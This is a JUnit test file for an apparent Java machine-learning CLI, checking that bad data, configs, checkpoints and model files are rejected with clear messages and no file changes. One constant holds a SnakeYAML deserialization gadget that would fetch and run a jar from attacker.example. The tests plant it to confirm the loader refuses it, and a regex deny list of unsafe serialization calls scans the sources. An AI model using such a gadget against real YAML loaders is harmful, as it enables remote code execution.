package io.treegrad.driver;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.treegrad.driver.CliEndToEndTest.Run;
import io.treegrad.io.ModelFile;
import io.treegrad.io.Safetensors;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import org.nd4j.linalg.factory.Nd4j;

/**
 * Every kind of bad input of issue 5, through the CLI as a user meets it: exit code 2, a message
 * that names the file, the line, record or key, and what was expected, and nothing anywhere in the
 * test's folder created, changed or removed. The inputs are small copies of the real datasets with
 * one thing broken; {@code good/} is a finished run (model and checkpoints) that the failing
 * commands point their output at, so a command that wrote before it failed would show.
 */
class BadInputMatrixTest {
    static final String HEART = "configs/heart-scale-libsvm.yaml";
    static final String DIGITS = "configs/digits-logistic-regression.yaml";
    static final String FASHION = "configs/fashion-mnist-mlp.yaml";

    /** The classic SnakeYAML gadget: loading it with a constructing loader fetches and runs a jar. */
    static final String GADGET = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
            + " [[!!java.net.URL [\"http://attacker.example/x.jar\"]]]]";

    @TempDir
    static Path tmp;
    static Path good;
    static Path in;

    /** One row of the table: the command line, the exit code, and what the message must say. */
    record Case(String name, String[] args, int exit, List<String> says) {
        static Case of(String name, int exit, List<String> says, String... args) {
            return new Case(name, args, exit, says);
        }
    }

    @BeforeAll
    static void aFinishedRunAndBrokenCopiesOfTheData() throws IOException {
        good = tmp.resolve("good");
        Run r = CliEndToEndTest.run("train", HEART, "--set", "output.dir=" + good, "--set", "training.epochs=null",
                "--set", "training.steps=12", "--set", "checkpoints.every_steps=4");
        assertEquals(0, r.code(), r.err());
        assertTrue(Files.exists(good.resolve("checkpoints/ckpt-12.safetensors")), "the good run checkpointed");

        in = Files.createDirectories(tmp.resolve("in"));
        List<String> digits = digitsLines(30);
        List<String> heart = Files.readAllLines(Path.of(TestData.file("heart-scale/heart_scale"))).subList(0, 30);
        write("digits.csv", digits);
        write("malformed.csv", replaceField(digits, 3, 5, "abc"));
        List<String> shortRow = new ArrayList<>(digits);
        shortRow.set(3, digits.get(3).substring(0, digits.get(3).lastIndexOf(',')));
        write("short-row.csv", shortRow);
        write("nan.csv", replaceField(digits, 5, 10, "NaN"));
        write("inf.csv", replaceField(digits, 6, 2, "-Infinity"));
        write("label.csv", replaceField(digits, 7, 65, "10"));
        Files.write(in.resolve("empty.csv"), new byte[0]);
        byte[] gz = Files.readAllBytes(Path.of(TestData.file("digits/digits.csv.gz")));
        Files.write(in.resolve("cut.csv.gz"), Arrays.copyOf(gz, gz.length / 2));
        Files.write(in.resolve("not-gzip.csv.gz"), randomBytes(4096, 1));

        List<String> nanSvm = new ArrayList<>(heart);
        nanSvm.set(2, heart.get(2).replaceFirst(" 3:[^ ]+", " 3:nan"));
        write("nan.svm", nanSvm);
        List<String> wideSvm = new ArrayList<>(heart);
        wideSvm.set(1, heart.get(1).strip() + " 14:1");
        write("wide.svm", wideSvm);

        // the good run's newest checkpoint broken, alone in a copy of the run
        Path corrupt = copyRun("corrupt-ckpt");
        deleteAllBut(corrupt.resolve("checkpoints"), "ckpt-12.safetensors");
        flipByteNearTheEnd(corrupt.resolve("checkpoints/ckpt-12.safetensors"));
        Path truncated = copyRun("truncated-ckpt");
        deleteAllBut(truncated.resolve("checkpoints"), "ckpt-12.safetensors");
        truncate(truncated.resolve("checkpoints/ckpt-12.safetensors"));

        // model directories whose model.safetensors is something else
        Path model = good.resolve("model/model.safetensors");
        byte[] zip = zip("model.bin", randomBytes(100, 2));
        modelFile("random", randomBytes(4096, 3));
        modelFile("zip", zip);
        modelFile("json", "{\"layers\": [16, 2], \"weights\": [0.1, 0.2]}\n".getBytes(StandardCharsets.UTF_8));
        ByteArrayOutputStream plain = new ByteArrayOutputStream();
        Safetensors.write(plain, Map.of("weight", Nd4j.createFromArray(new float[] {1, 2, 3})), Map.of());
        modelFile("foreign-safetensors", plain.toByteArray());
        modelFile("checkpoint", Files.readAllBytes(good.resolve("checkpoints/ckpt-12.safetensors")));
        flipByteNearTheEnd(modelFile("corrupt", Files.readAllBytes(model)));
        truncate(modelFile("truncated", Files.readAllBytes(model)));
        modelFile("empty", new byte[0]);
        Files.writeString(in.resolve("predictions.csv"), "record,prediction\n0,1\n");
        ModelFile trained = ModelFile.read(model);
        String tagged = trained.config().replaceFirst("(?m)^name: .*$", "name: " + GADGET);
        assertTrue(tagged.contains(GADGET), "the tag went into the config");
        try (OutputStream o = Files.newOutputStream(Files.createDirectories(in.resolve("models/tagged-config"))
                .resolve("model.safetensors"))) {
            ModelFile.of(trained.toModel(), trained.scaler().orElse(null), tagged, trained.provenance()).write(o);
        }

        // Fashion-MNIST's IDX layout, three 28x28 images, the second labelled 12 of 10 classes
        Files.write(in.resolve("images.idx"), idx(0x0803, new int[] {3, 28, 28}, new byte[3 * 784]));
        Files.write(in.resolve("labels.idx"), idx(0x0801, new int[] {3}, new byte[] {1, 12, 3}));
    }

    @TestFactory
    Stream<DynamicTest> everyBadInputExitsWith2NamingWhereAndWhatAndChangesNothing() throws IOException {
        String out = "output.dir=" + good;
        List<Case> cases = new ArrayList<>();
        // ---- data given to train
        cases.add(Case.of("malformed CSV row", 2, List.of("malformed.csv line 3: field 5 is \"abc\", not a number;"
                + " expected a decimal number"), digits(out, "malformed.csv")));
        cases.add(Case.of("wrong field count in a row", 2, List.of("short-row.csv line 4: 64 fields, expected 65 as in"
                + " the first record on line 1"), digits(out, "short-row.csv")));
        cases.add(Case.of("more features than model.inputs", 2, List.of("digits.csv (data.train): 64 features"
                + " per row, but model.inputs is 60; expected the same number"), concat(digits(out, "digits.csv"), "--set", "model.inputs=60")));
        cases.add(Case.of("LibSVM feature index beyond num_features", 2, List.of("wide.svm line 2: feature index 14",
                "13"), heart(out, "wide.svm")));
        cases.add(Case.of("NaN feature (CSV)", 2, List.of("nan.csv line 5: field 10 is \"NaN\", not finite"),
                digits(out, "nan.csv")));
        cases.add(Case.of("-Infinity feature (CSV)", 2, List.of("inf.csv line 6: field 2 is \"-Infinity\", not finite"),
                digits(out, "inf.csv")));
        cases.add(Case.of("NaN feature (LibSVM)", 2, List.of("nan.svm line 3: value of feature 3 in \"3:nan\" is"
                + " \"nan\", not finite"), heart(out, "nan.svm")));
        cases.add(Case.of("label out of range (CSV)", 2, List.of("label.csv line 7: label field 65 is \"10\", out of"
                + " range; expected a class id in 0..9 (10 classes)"), digits(out, "label.csv")));
        cases.add(Case.of("label out of range (IDX)", 2, List.of("labels.idx record 1: label 12 is out of range;"
                + " expected a class id in 0..9 (10 classes)"), "train", FASHION, "--set", out,
                "--set", "data.train.path=" + in.resolve("images.idx"),
                "--set", "data.train.labels=" + in.resolve("labels.idx")));
        cases.add(Case.of("empty file", 2, List.of("empty.csv: empty file"), digits(out, "empty.csv")));
        cases.add(Case.of("missing path", 2, List.of(in.resolve("nowhere.csv") + ": no such file (for the"
                + " datasets of this project, run jobs/fetch-datasets)"),
                digits(out, "nowhere.csv")));
        cases.add(Case.of("truncated gzip", 2, List.of("cut.csv.gz: corrupt or truncated gzip data",
                "expected a complete file"), digits(out, "cut.csv.gz")));
        cases.add(Case.of("a .gz file that is not gzip", 2, List.of("not-gzip.csv.gz: not gzip data",
                "expected gzip"), digits(out, "not-gzip.csv.gz")));
        // ---- the config
        cases.add(Case.of("invalid YAML syntax", 2, List.of("syntax.yaml line 10: invalid YAML (column"),
                "train", config("syntax.yaml", "layers: [{linear: 10, init: zeros}]", "layers: [{linear: 10, init: zeros}}")
                        .toString()));
        cases.add(Case.of("unknown key", 2, List.of("unknown.yaml line 13: training.bach_size: unknown key; did you"
                + " mean batch_size?"), "train", config("unknown.yaml", "batch_size: 16", "bach_size: 16").toString()));
        cases.add(Case.of("wrong type", 2, List.of("type.yaml line 13: training.batch_size: expected an integer, got"
                + " 'sixteen'"), "train", config("type.yaml", "batch_size: 16", "batch_size: sixteen").toString()));
        cases.add(Case.of("negative learning rate", 2, List.of("lr.yaml line 12: optimizer.lr: must be > 0, got -0.01"),
                "train", config("lr.yaml", "lr: 0.01", "lr: -0.01").toString()));
        cases.add(Case.of("zero batch size", 2, List.of("--set training.batch_size=0: must be >= 1, got 0"),
                "train", DIGITS, "--set", out, "--set", "training.batch_size=0"));
        cases.add(Case.of("a tag that would construct a class", 2, List.of("gadget.yaml line 3:",
                "tag !!javax.script.ScriptEngineManager is not allowed"), "train", config("gadget.yaml",
                "name: digits-logistic-regression", "name: " + GADGET)
                .toString()));
        cases.add(Case.of("missing config file", 2, List.of("nope.yaml: no such config file"),
                "train", in.resolve("nope.yaml").toString()));
        // ---- checkpoints given to train --resume
        String heartResume = "training.steps=16";
        cases.add(Case.of("checkpoint corrupted", 2, List.of("no readable checkpoint in",
                tmp.resolve("corrupt-ckpt/checkpoints/ckpt-12.safetensors") + ": checksum mismatch", "the file is corrupt"),
                "train", HEART, "--set", "output.dir=" + tmp.resolve("corrupt-ckpt"), "--set", "training.epochs=null",
                "--set", heartResume, "--set", "checkpoints.every_steps=4", "--resume"));
        cases.add(Case.of("checkpoint truncated", 2, List.of("no readable checkpoint in",
                tmp.resolve("truncated-ckpt/checkpoints/ckpt-12.safetensors") + ": truncated: the data section should be"),
                "train", HEART, "--set", "output.dir=" + tmp.resolve("truncated-ckpt"), "--set", "training.epochs=null",
                "--set", heartResume, "--set", "checkpoints.every_steps=4", "--resume"));
        cases.add(Case.of("checkpoint of a different model shape", 2, List.of(
                good.resolve("checkpoints/ckpt-12.safetensors") + ": checkpoint of a different model shape: it holds 258"
                        + " FLOAT parameters (inputs 13, layers [linear 16, tanh, linear 2]), this config's model has 130"
                        + " FLOAT (inputs 13, layers [linear 8, tanh, linear 2]); expected the same model"),
                "train", HEART, "--set", out, "--set", "training.epochs=null", "--set", heartResume,
                "--set", "model.layers=[{linear: 8}, tanh, {linear: 2}]", "--resume"));
        cases.add(Case.of("--resume with no checkpoint", 2, List.of("--resume: no checkpoint in",
                tmp.resolve("in/nothing-yet/checkpoints").toString()), "train", HEART, "--set", "output.dir="
                + tmp.resolve("in/nothing-yet"), "--set", "training.epochs=null", "--set", heartResume, "--resume"));
        // ---- model files given to evaluate and predict
        String heartData = TestData.file("heart-scale/heart_scale");
        cases.add(Case.of("model file of random bytes", 2, List.of(modelPath("random") + ": not a safetensors file:"
                + " bad header length"), "evaluate", modelDir("random"), heartData));
        cases.add(Case.of("model file that is a zip", 2, List.of(modelPath("zip") + ": not a safetensors file",
                "like a zip archive"), "evaluate", modelDir("zip"), heartData));
        cases.add(Case.of("model file that is JSON", 2, List.of(modelPath("json") + ": not a safetensors file",
                "like JSON text"), "evaluate", modelDir("json"), heartData));
        cases.add(Case.of("safetensors file of another tool", 2, List.of(modelPath("foreign-safetensors")
                + ": not a treegrad model file: a safetensors file without treegrad.format metadata"),
                "evaluate", modelDir("foreign-safetensors"), heartData));
        cases.add(Case.of("a checkpoint where a model belongs", 2, List.of(modelPath("checkpoint") + ": not a treegrad"
                + " model file (treegrad-model/1): its treegrad.format is 'treegrad-checkpoint/1'"),
                "evaluate", modelDir("checkpoint"), heartData));
        cases.add(Case.of("model file corrupted", 2, List.of(modelPath("corrupt") + ": checksum mismatch: the data"
                + " section's sha256 is"), "predict", modelDir("corrupt"), heartData, in.resolve("predictions.csv").toString()));
        cases.add(Case.of("model file truncated", 2, List.of(modelPath("truncated") + ": truncated: the data section"
                + " should be"), "evaluate", modelDir("truncated"), heartData));
        cases.add(Case.of("model file empty", 2, List.of(modelPath("empty") + ": not a safetensors file: it is empty"),
                "evaluate", modelDir("empty"), heartData));
        cases.add(Case.of("no model directory", 2, List.of(tmp.resolve("in/models/nowhere/model.safetensors")
                + ": no such file; expected the model directory a train run writes"),
                "evaluate", modelDir("nowhere"), heartData));
        Path model = good.resolve("model/model.safetensors");
        cases.add(Case.of("a model whose config carries a code tag", 2, List.of(modelPath("tagged-config")
                + " (its config) line 2: tag !!javax.script.ScriptEngineManager is not allowed"),
                "evaluate", modelDir("tagged-config"), heartData));
        cases.add(Case.of("a model file instead of its directory", 2, List.of(model + ": is a file, not a model"
                + " directory"), "evaluate", model.toString(), heartData));
        cases.add(Case.of("bad data for a good model", 2, List.of("nan.svm line 3: value of feature 3 in \"3:nan\" is"
                + " \"nan\", not finite"), "predict", good.resolve("model").toString(), in.resolve("nan.svm").toString(),
                in.resolve("predictions.csv").toString()));
        return cases.stream().map(c -> DynamicTest.dynamicTest(c.name(), () -> check(c)));
    }

    /**
     * What a crash leaves (a half-written temporary file; a newest checkpoint that is corrupt) does
     * not stop {@code --resume}: it takes the newest checkpoint that reads, says what it passed over,
     * and ends where an uninterrupted run ends.
     */
    @Test
    void resumeTakesTheNewestValidCheckpointAndSaysWhatItPassedOver() throws IOException {
        Path crashed = copyRun("crashed");
        byte[] ckpt12 = Files.readAllBytes(crashed.resolve("checkpoints/ckpt-12.safetensors"));
        Path temp = crashed.resolve("checkpoints/.ckpt-16.safetensors.tmp-0f1e2d3c");
        Files.write(temp, Arrays.copyOf(ckpt12, ckpt12.length / 2));
        Run a = resumeTo16(crashed);
        assertEquals(0, a.code(), a.err());
        assertTrue(a.out().contains("resuming from step 12"), a.out());
        assertFalse(a.out().contains("passes over"), "a temporary file is no checkpoint: " + a.out());
        assertEquals(List.of("LATEST", "ckpt-12.safetensors", "ckpt-16.safetensors", "ckpt-8.safetensors"),
                checkpointNames(crashed), "the killed writer's temporary file is cleaned up");

        Path flipped = copyRun("flipped");
        flipByteNearTheEnd(flipped.resolve("checkpoints/ckpt-12.safetensors"));
        Run b = resumeTo16(flipped);
        assertEquals(0, b.code(), b.err());
        assertTrue(b.out().contains("treegrad: --resume passes over file:"
                + flipped.resolve("checkpoints/ckpt-12.safetensors") + ": checksum mismatch"), b.out());
        assertTrue(b.out().contains("resuming from step 8"), b.out());

        float[] fromTwelve = ModelFile.read(crashed.resolve("model/model.safetensors")).parameters().toFloatVector();
        float[] fromEight = ModelFile.read(flipped.resolve("model/model.safetensors")).parameters().toFloatVector();
        assertArrayEquals(fromTwelve, fromEight, 0f, "both continue the same run, bit for bit");
    }

    // ------------------------------------------------------------------ files are data, never code

    /**
     * Every file a run writes is plain data: models and checkpoints are safetensors (a little-endian
     * u64 header length, then a JSON object), the rest UTF-8 text; none is a Java serialization
     * stream (magic AC ED), so reading one back cannot instantiate a class. The report's plots are PNG.
     */
    @Test
    void everyFileARunWritesIsPlainDataNotJavaObjects() throws IOException {
        List<Path> files;
        try (Stream<Path> all = Files.walk(good)) {
            files = all.filter(Files::isRegularFile).filter(p -> !p.getFileName().toString().endsWith(".crc")).toList();
        }
        assertTrue(files.size() >= 8, "model, its side files, checkpoints, pointer, metrics, summary: " + files);
        for (Path f : files) {
            byte[] b = Files.readAllBytes(f);
            assertTrue(b.length >= 2 && !((b[0] & 0xff) == 0xac && (b[1] & 0xff) == 0xed), f + " is a Java object stream");
            if (f.getFileName().toString().endsWith(".safetensors")) {
                long header = java.nio.ByteBuffer.wrap(b, 0, 8).order(java.nio.ByteOrder.LITTLE_ENDIAN).getLong();
                assertTrue(header > 1 && header < b.length - 8, f + ": header length " + header);
                assertEquals('{', b[8], f + ": a JSON header follows the length");
                Safetensors.read(f);    // and it reads, checksums and all
            } else if (f.getFileName().toString().endsWith(".png")) {   // the report's plots
                assertArrayEquals(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'},
                        java.util.Arrays.copyOf(b, 8), f + ": a PNG signature");
                assertNotNull(javax.imageio.ImageIO.read(f.toFile()), f + " decodes as an image");
            } else {
                String text = StandardCharsets.UTF_8.newDecoder().decode(java.nio.ByteBuffer.wrap(b)).toString();
                assertFalse(text.chars().anyMatch(c -> c < 0x20 && c != '\n' && c != '\t'), f + " is text");
            }
        }
    }

    /**
     * No file format in the main sources goes through Java serialization, and YAML is only ever
     * composed into nodes (SafeYaml), never loaded into objects. (Spark's own closure and Kryo
     * serialization between JVMs is not a file format and is not matched here.)
     */
    @Test
    void theSourcesNeverUseJavaSerializationOrAConstructingYamlLoader() throws IOException {
        java.util.regex.Pattern forbidden = java.util.regex.Pattern.compile(
                "ObjectInputStream|ObjectOutputStream|XMLDecoder|XMLEncoder|SerializationUtils|readObject\\(|writeObject\\(");
        java.util.regex.Pattern yamlLoad = java.util.regex.Pattern.compile("\\.(load|loadAs|loadAll)\\(");
        List<String> found = new ArrayList<>();
        int scanned = 0;
        for (String module : List.of("worker", "driver")) {
            try (Stream<Path> all = Files.walk(TestData.repoRoot().resolve(module + "/src/main/java"))) {
                for (Path f : all.filter(p -> p.toString().endsWith(".java")).toList()) {
                    scanned++;
                    String text = Files.readString(f);
                    boolean yaml = text.contains("org.yaml.snakeyaml");
                    List<String> lines = text.lines().toList();
                    for (int i = 0; i < lines.size(); i++) {
                        String line = lines.get(i);
                        if (forbidden.matcher(line).find() || (yaml && yamlLoad.matcher(line).find())) {
                            found.add(f + " line " + (i + 1) + ": " + line.strip());
                        }
                    }
                }
            }
        }
        assertTrue(scanned > 50, "scanned the main sources: " + scanned);
        assertEquals(List.of(), found);
    }

    static Run resumeTo16(Path run) {
        return CliEndToEndTest.run("train", HEART, "--set", "output.dir=" + run, "--set", "training.epochs=null",
                "--set", "training.steps=16", "--set", "checkpoints.every_steps=4", "--resume");
    }

    static List<String> checkpointNames(Path run) throws IOException {
        try (Stream<Path> s = Files.list(run.resolve("checkpoints"))) {
            return s.map(p -> p.getFileName().toString()).filter(n -> !n.endsWith(".crc")).sorted().toList();
        }
    }

    /** Runs one case and checks its exit code, its message, and that no file changed. */
    static void check(Case c) throws IOException {
        Map<String, String> before = snapshot(tmp);
        Run r = CliEndToEndTest.run(c.args());
        assertEquals(c.exit(), r.code(), c.name() + ": exit code; stderr: " + r.err());
        for (String part : c.says()) {
            assertTrue(r.err().contains(part), c.name() + ": the message lacks '" + part + "': " + r.err());
        }
        assertFalse(r.err().contains("Exception") || r.err().contains("\tat "), c.name()
                + ": a message for people, not a stack trace: " + r.err());
        assertEquals(before, snapshot(tmp), c.name() + ": no file created, changed or removed");
    }

    // ------------------------------------------------------------------ fixtures

    static Path copyRun(String name) throws IOException {
        return TestData.copyTree(good, tmp.resolve(name));
    }

    static void deleteAllBut(Path checkpoints, String keep) throws IOException {
        try (Stream<Path> files = Files.list(checkpoints)) {
            for (Path p : files.toList()) {
                if (p.getFileName().toString().startsWith("ckpt-") && !p.getFileName().toString().equals(keep)) {
                    Files.delete(p);
                }
            }
        }
    }

    /** Flips one bit of the last tensor's data: only the checksum can tell. */
    static void flipByteNearTheEnd(Path file) throws IOException {
        byte[] b = Files.readAllBytes(file);
        b[b.length - 3] ^= 0x10;
        Files.write(file, b);
    }

    static void truncate(Path file) throws IOException {
        byte[] b = Files.readAllBytes(file);
        Files.write(file, Arrays.copyOf(b, b.length - b.length / 4));
    }

    static Path modelFile(String dir, byte[] content) throws IOException {
        Path d = Files.createDirectories(in.resolve("models").resolve(dir));
        return Files.write(d.resolve("model.safetensors"), content);
    }

    static String modelDir(String name) {
        return in.resolve("models").resolve(name).toString();
    }

    static String modelPath(String name) {
        return in.resolve("models").resolve(name).resolve("model.safetensors").toString();
    }

    static byte[] zip(String entry, byte[] content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(bytes)) {
            z.putNextEntry(new ZipEntry(entry));
            z.write(content);
            z.closeEntry();
        }
        return bytes.toByteArray();
    }

    static String[] digits(String outSetting, String trainFile) {
        return new String[] {"train", DIGITS, "--set", outSetting, "--set", "data.train.path=" + in.resolve(trainFile)};
    }

    static String[] heart(String outSetting, String trainFile) {
        return new String[] {"train", HEART, "--set", outSetting, "--set", "data.train.path=" + in.resolve(trainFile)};
    }

    /** The digits config with one piece of text replaced, its output pointed at the good run. */
    static Path config(String name, String from, String to) throws IOException {
        String text = Files.readString(Path.of(DIGITS));
        assertTrue(text.contains(from), from);
        text = text.replace(from, to).replace("dir: runs/digits-logistic-regression", "dir: " + good);
        return Files.writeString(in.resolve(name), text);
    }

    static List<String> digitsLines(int n) throws IOException {
        try (InputStream gz = new GZIPInputStream(Files.newInputStream(Path.of(TestData.file("digits/digits.csv.gz"))))) {
            List<String> all = new String(gz.readAllBytes(), StandardCharsets.UTF_8).lines().toList();
            return all.subList(0, n);
        }
    }

    /** {@code lines} with field {@code field} (1-based) of line {@code line} (1-based) replaced. */
    static List<String> replaceField(List<String> lines, int line, int field, String value) {
        List<String> out = new ArrayList<>(lines);
        String[] f = lines.get(line - 1).split(",", -1);
        f[field - 1] = value;
        out.set(line - 1, String.join(",", f));
        return out;
    }

    static void write(String name, List<String> lines) throws IOException {
        Files.write(in.resolve(name), lines);
    }

    static byte[] randomBytes(int n, long seed) {
        byte[] b = new byte[n];
        new java.util.Random(seed).nextBytes(b);
        b[0] = 'x';   // not the gzip magic by chance
        return b;
    }

    /** An IDX file: magic, big-endian dimensions, the bytes. */
    static byte[] idx(int magic, int[] dims, byte[] values) {
        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(4 + 4 * dims.length + values.length);
        b.putInt(magic);
        for (int d : dims) {
            b.putInt(d);
        }
        return b.put(values).array();
    }

    static String[] concat(String[] a, String... b) {
        String[] r = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, r, a.length, b.length);
        return r;
    }

    /** Every file and folder under {@code root}: relative path → sha256 of the content ("dir" for folders). */
    static Map<String, String> snapshot(Path root) throws IOException {
        Map<String, String> m = new TreeMap<>();
        try (Stream<Path> all = Files.walk(root)) {
            for (Path p : all.toList()) {
                m.put(root.relativize(p).toString(), Files.isDirectory(p) ? "dir" : sha256(Files.readAllBytes(p)));
            }
        }
        return m;
    }

    static String sha256(byte[] bytes) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
